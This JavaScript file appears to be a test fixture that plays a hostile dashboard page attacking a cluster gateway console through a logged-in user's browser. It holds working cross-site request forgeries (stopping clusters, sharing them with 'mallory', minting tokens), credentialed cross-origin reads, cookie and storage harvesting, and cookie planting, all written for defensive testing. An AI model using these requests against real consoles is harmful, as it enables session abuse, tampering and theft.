// What a page of a cluster's dashboard could try with the browser of somebody who is logged in on the console.
//
// `aims` says whom it is aimed at. Every attempt notes in `results` what it got hold of: "" is nothing. What it did to
// the gateway is for the test to see there.

const results = {};

async function attempt(what, action) {
  const nothing = new Promise((resolve) => setTimeout(resolve, 5000, ""));
  try {
    results[what] = (await Promise.race([action(), nothing])) || "";
  } catch {
    results[what] = "";
  }
}

async function read(url, mode) {
  const reply = await fetch(url, {mode, credentials: "include", signal: AbortSignal.timeout(4000)});
  return reply.text();
}

async function write(url, method, type, body) {
  // Without CORS the request is sent all the same, and its answer is a secret.
  const mode = method === "POST" ? "no-cors" : "cors";
  const reply = await fetch(url, {mode, method, body, credentials: "include", headers: {"Content-Type": type}});
  return reply.type === "opaque" ? "" : `${reply.status}`;
}

function open_socket(url) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("");
  });
}

function follow(url) {
  return new Promise((resolve) => {
    const stream = new EventSource(url, {withCredentials: true});
    stream.onopen = () => resolve("open");
    stream.onerror = () => resolve("");
  });
}

function load(kind, url) {
  return new Promise((resolve) => {
    const element = document.createElement(kind);
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("");
    element.src = url;
    document.body.append(element);
  });
}

function frame(url) {
  return new Promise((resolve) => {
    const element = document.createElement("iframe");
    element.onload = () => resolve(element.contentDocument?.body.innerText);
    element.src = url;
    document.body.append(element);
  });
}

async function keep_hold_of_window(url) {
  const opened = window.open(url);
  for (let tries = 0; tries < 40; tries++) {
    if (opened.closed) return "";  // to us; the console has cut the tie, and goes on without
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return "a hold";
}

function send_form(url, target) {
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: url, target});
  document.body.append(form);
  form.submit();
}

async function try_the_gateway(home, victim) {
  const pages = ["/", `/clusters/${victim}`, "/tokens", "/audit"];
  const replies = ["/api/v1/clusters/", "/api/v2/clusters", "/api/v2/whoami", "/api/v2/tokens", "/api/v2/audit"];
  for (const path of [...pages, ...replies])
    for (const mode of ["cors", "no-cors"]) await attempt(`${mode} ${home}${path}`, () => read(home + path, mode));
  const form = "application/x-www-form-urlencoded";
  const writes = [
    ["POST", `/console/clusters/${victim}/stop`, form, ""],
    ["POST", `/console/clusters/${victim}/size`, form, "workers=2"],
    ["POST", "/console/clusters", form, ""],
    ["POST", `/console/clusters/${victim}/limit`, form, "limit=1"],
    ["POST", `/console/clusters/${victim}/shares`, form, "kind=user&name=mallory&right=use"],
    ["POST", `/console/clusters/${victim}/links`, form, "seconds=3600"],
    ["POST", "/console/tokens", form, "label=mine"],
    ["POST", "/logout", form, ""],
    ["POST", "/api/v1/clusters/", "text/plain", "{}"],
    ["POST", "/api/v2/clusters", "text/plain", "{}"],
    ["POST", `/api/v1/clusters/${victim}/scale`, "text/plain", '{"count": 2}'],
    ["DELETE", `/api/v1/clusters/${victim}`, "application/json", null],
    ["DELETE", `/api/v2/clusters/${victim}`, "application/json", null],
    ["PATCH", `/api/v2/clusters/${victim}`, "application/json", '{"workers": 2}'],
    ["PUT", `/api/v2/clusters/${victim}/shares/user:mallory`, "application/json", '{"right": "use"}'],
    ["POST", `/api/v2/clusters/${victim}/links`, "text/plain", "{}"],
    ["POST", "/api/v2/tokens", "text/plain", "{}"],
  ];
  for (const [method, path, type, body] of writes)
    await attempt(`${method} ${home}${path}`, () => write(home + path, method, type, body));
  await attempt(`beacon ${home}`, () => navigator.sendBeacon(`${home}/console/clusters/${victim}/stop`) && "");
  for (const path of ["/api/v2/clusters", "/console/live", `/clusters/${victim}/status/ws`])
    await attempt(`socket ${home}${path}`, () => open_socket(home + path));
  await attempt(`stream ${home}`, () => follow(`${home}/console/live`));
  await attempt(`script ${home}`, () => load("script", `${home}/api/v2/clusters`));
  await attempt(`picture ${home}`, () => load("img", `${home}/console/static/icon.svg`));
  await attempt(`frame ${home}`, () => frame(`${home}/`));
  await attempt(`window ${home}`, () => keep_hold_of_window(`${home}/`));
}

async function try_the_other_dashboard(host) {
  for (const mode of ["cors", "no-cors"]) await attempt(`${mode} ${host}`, () => read(`${host}/status`, mode));
  await attempt(`socket ${host}`, () => open_socket(`${host}/status/ws`));
  await attempt(`script ${host}`, () => load("script", `${host}/static/js/bokeh.min.js`));
  await attempt(`frame ${host}`, () => frame(`${host}/status`));
}

async function try_the_browser(domains, names) {
  await attempt("cookies", () => document.cookie);
  await attempt("opener", () => window.opener && "somebody");
  // A browser may let a site's other hosts into its cookies, caches and storage; ours are for one host each.
  await attempt("storage access", async () => (await document.requestStorageAccess()) || document.cookie);
  await attempt("caches", async () => (await caches.keys()).join());
  await attempt("storage", () => JSON.stringify({...localStorage, ...sessionStorage}).slice(2));
  await attempt("databases", async () => (await indexedDB.databases()).map((base) => base.name).join());
  await attempt("cookie store", async () => (await cookieStore.getAll()).map((cookie) => cookie.name).join());
  await attempt("window's name", () => window.name);
  await attempt("worker", async () => (await navigator.serviceWorker.register("/hostile.js")).scope);
  for (const domain of domains)
    for (const name of names) document.cookie = `${name}=planted; Domain=${domain}; Path=/`;
}

async function try_everything() {
  await try_the_browser(aims.domains, aims.cookies);
  for (const home of aims.homes) await try_the_gateway(home, aims.victim);
  await try_the_other_dashboard(aims.other);
  window.own_host = [];
  for (const path of ["/login", "/api/v2/clusters", "/api/v1/clusters/", "/console/live", "/internal/clusters"])
    window.own_host.push([path, (await fetch(path)).status]);
  window.finished = true;
}
